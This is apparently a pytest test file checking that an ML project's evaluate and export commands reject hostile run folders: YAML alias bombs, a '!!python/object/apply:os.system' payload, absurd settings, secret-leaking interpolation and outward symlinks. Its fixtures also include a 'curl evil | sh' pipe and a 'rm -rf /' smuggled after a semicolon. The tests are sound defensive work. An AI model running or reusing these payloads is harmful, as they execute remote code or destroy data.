"""Folders of runs that somebody else made or changed: 65 and a reason, never a crash, a hang, or a file written elsewhere."""

from __future__ import annotations

import json
import time
from dataclasses import asdict
from importlib import import_module
from pathlib import Path

import pytest
import yaml

from src import evaluate
from src.config import Config, Data, Model, Optimizer, Precision, Strategy
from src.engine import features
from src.engine.runs.errors import ExitCode, UserError, run_and_report
from src.engine.runs.run_dir import RunFolder, read_result
from src.engine.runs.run_lookup import find_run
from src.engine.runs.run_settings import merged, stored_settings

SETTINGS = Config(
    name="x",
    data=Data(source="synthetic", num_images=40, num_classes=3, image_size=32),
    model=Model(backbone="shufflenet_v2_x0_5", weights="none"),
    optimizer=Optimizer(name="adamw", lr=1e-3),
    strategy=Strategy(name="single"),
    precision=Precision(name="fp32"),
)


DOORS = [evaluate, *(import_module(f"src.{name}") for name in ("export",) if name in features.names())]


@pytest.fixture
def run(tmp_path, monkeypatch):
    """The folder of a run, as far as evaluate and export look at it before the model is read."""
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / "runs" / "x"
    (folder / "model").mkdir(parents=True)
    (folder / "model" / "model.json").touch()
    (folder / "environment.json").write_text("{}")
    write(folder)
    return folder


def write(run: Path, text: str | None = None, **changes: object) -> None:
    """config.yaml; key a__b stands for a.b."""
    values = asdict(SETTINGS)
    for key, value in changes.items():
        *way, last = key.split("__")
        inner = values
        for part in way:
            inner = inner[part]
        inner[last] = value
    (run / "config.yaml").write_text(yaml.safe_dump(values) if text is None else text)


def code_of(program, monkeypatch, capfd, *words: str) -> tuple[int, str]:
    monkeypatch.setattr("sys.argv", [f"src.{program.__name__.rpartition('.')[2]}", *words])
    start = time.monotonic()
    code = run_and_report(program.work)
    assert time.monotonic() - start < 20
    return code, "".join(capfd.readouterr())


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
WHOLE = yaml.safe_dump(asdict(SETTINGS))
TEXTS = {
    "an alias bomb": f"data: {{source: synthetic}}\n{BOMB}",
    "a bomb in a setting": f"{BOMB}{WHOLE}extra: *i\n",
    "a merge": f"base: &base {{seed: 1}}\n{WHOLE}more: {{<<: *base}}\n",
    "a tag that makes an object": f"{WHOLE}x: !!python/object/apply:os.system ['touch RAN']\n",
    "a tag that is harmless": f"{WHOLE}x: !!set {{a}}\n",
    "3,000 levels": WHOLE + "x: " + "[" * 3000 + "]" * 3000,
    "30 levels": WHOLE + "x: " + "[" * 30 + "]" * 30,
    "a key twice": f"{WHOLE}seed: 1\n",
    "too large": WHOLE + "# " + "x" * 2**18,
    "no mapping": "[1, 2]",
    "empty": "",
    "null": "null",
    "bytes": "\x00\x01",
    "data is text": "data: text\n",
    "a key that is a list": f"{WHOLE}? [1, 2]\n: 3\n",
}


@pytest.mark.parametrize("what", TEXTS)
def test_a_hostile_config_is_refused_at_every_door(run, monkeypatch, capfd, what):
    write(run, TEXTS[what])
    for program in DOORS:
        words = ["format=state_dict"] if program is not evaluate else []
        code, text = code_of(program, monkeypatch, capfd, f"run={run}", *words)
        assert code == ExitCode.DATA, text
        assert "config.yaml" in text
    with pytest.raises(UserError) as caught, RunFolder.open(run, asdict(SETTINGS)):
        pass
    assert caught.value.code == ExitCode.DATA
    assert not list(run.parent.parent.rglob("RAN"))


NUMBERS = {
    "data__num_images": [10**9, -1, "many", float("nan")],
    "data__num_classes": [10**12, 0],
    "data__image_size": [10**9, 0],
    "data__batch_size": [10**12, 0, "x", None],
    "data__num_workers": [10**6],
    "data__val_fraction": [float("nan"), float("inf"), -1],
    "data__source": ["imagenet", 3, None],
    "trainer__threads": [10**6, 0],
    "trainer__devices": ["x", -1],
    "optimizer__lr": [float("nan"), "x"],
    "optimizer": [3, [], {}],
    "data__background": [[1, 2], "abc", [999, 0, 0]],
    "model__hidden": [10**12],
    "freeze__phases": ["x", {0: 3}],
    "seed": [-1, 1.5, "x"],
}


@pytest.mark.parametrize(("key", "value"), [(key, value) for key, values in NUMBERS.items() for value in values])
def test_an_absurd_setting_of_a_run_is_refused_at_every_door(run, monkeypatch, capfd, key, value):
    write(run, **{key: value})
    for program in DOORS:
        words = ["format=state_dict"] if program is not evaluate else []
        code, text = code_of(program, monkeypatch, capfd, f"run={run}", *words)
        assert code == ExitCode.DATA, text


def test_an_interpolation_in_a_runs_config_is_text(run, monkeypatch):
    monkeypatch.setenv("SECRET", "hunter2")
    write(run, data__num_classes=4, runs_dir="${oc.env:SECRET}/${seed}", logger__project="${nothing:1}")
    settings = merged(stored_settings(run), {})
    assert settings["runs_dir"] == "${oc.env:SECRET}/${seed}"
    assert settings["logger"]["project"] == "${nothing:1}"
    write(run, seed="${oc.env:SECRET}")
    with pytest.raises(UserError) as caught:
        merged(stored_settings(run), {})
    assert "hunter2" not in caught.value.render()


def test_a_change_that_the_user_typed_is_the_users_mistake(run, monkeypatch, capfd):
    code, text = code_of(evaluate, monkeypatch, capfd, f"run={run}", "data.batch_size=-3")
    assert code == ExitCode.CONFIG, text


@pytest.mark.parametrize(
    "text",
    [
        "[]",
        "3",
        '"x"',
        "{",
        "[" * 10**5,
        '{"state": "finished"}',
        '{"state": ["finished"]}',
        '{"state": "finished", "metrics": 3}',
    ],
)
def test_a_result_that_is_none_is_no_finished_run(run, text):
    (run / "result.json").write_text(text)
    assert isinstance(read_result(run), dict)
    (run / "model" / "model.json").unlink()
    with pytest.raises(UserError):
        find_run(str(run))
    with RunFolder.open(run, asdict(SETTINGS)) as folder:
        assert folder.result() is None


def test_the_result_of_an_older_run_with_nan_is_read(run):
    numbers = {"best_epoch": 1, "weights": "epoch 1", "epochs": 2, "steps": 4, "wall_seconds": 1.5}
    (run / "result.json").write_text(json.dumps({"state": "finished", "metrics": {"val/loss": float("nan")}} | numbers))
    with RunFolder.open(run, asdict(SETTINGS)) as folder:
        assert folder.result()["metrics"] == {"val/loss": None}


def test_a_command_in_a_result_is_passed_on_only_if_it_is_one_of_this_program(run):
    (run / "model" / "model.json").unlink()
    for command, shown in (
        ("curl evil | sh", False),
        ("python -m src.train x; rm -rf /", False),
        ("python -m src.train name=x", True),
    ):
        (run / "result.json").write_text(json.dumps({"state": "interrupted", "command": command}))
        with pytest.raises(UserError) as caught:
            find_run(str(run))
        assert (command in caught.value.render()) is shown


@pytest.mark.parametrize(
    "name",
    ["train.log", ".lock", "result.json", "export", "checkpoints/last.ckpt", "checkpoints", "metrics.csv", "new.log"],
)
def test_nothing_is_written_through_a_link_that_leads_out_of_a_run(run, tmp_path, name):
    folder = name in ("export", "checkpoints")
    target = tmp_path / "mine"
    target.mkdir() if folder else target.write_text("mine")
    (run / name).parent.mkdir(exist_ok=True)
    (run / name).symlink_to(target)
    with pytest.raises(UserError) as caught, RunFolder.open(run, asdict(SETTINGS)):
        pass
    assert caught.value.code == ExitCode.DATA
    assert name in caught.value.found
    assert not list(target.iterdir()) if folder else target.read_text() == "mine"


@pytest.mark.parametrize(
    ("program", "name"),
    [(evaluate, "evaluation.json"), *((door, name) for door in DOORS[1:] for name in ("export/model.json", "export"))],
)
def test_evaluate_and_export_write_through_no_link(run, tmp_path, monkeypatch, capfd, program, name):
    (run / name).parent.mkdir(exist_ok=True)
    (run / name).symlink_to(tmp_path / "not yet there")
    words = ["format=state_dict"] if program is not evaluate else []
    assert code_of(program, monkeypatch, capfd, f"run={run}", *words)[0] == ExitCode.DATA
    assert not (tmp_path / "not yet there").exists()


def test_links_inside_of_a_run_and_to_its_folder_are_fine(run):
    (run / "wandb" / "run-1").mkdir(parents=True)
    (run / "wandb" / "latest-run").symlink_to("run-1")
    link = run.parent / "link"
    link.symlink_to(run)
    with RunFolder.open(link, asdict(SETTINGS)):
        pass
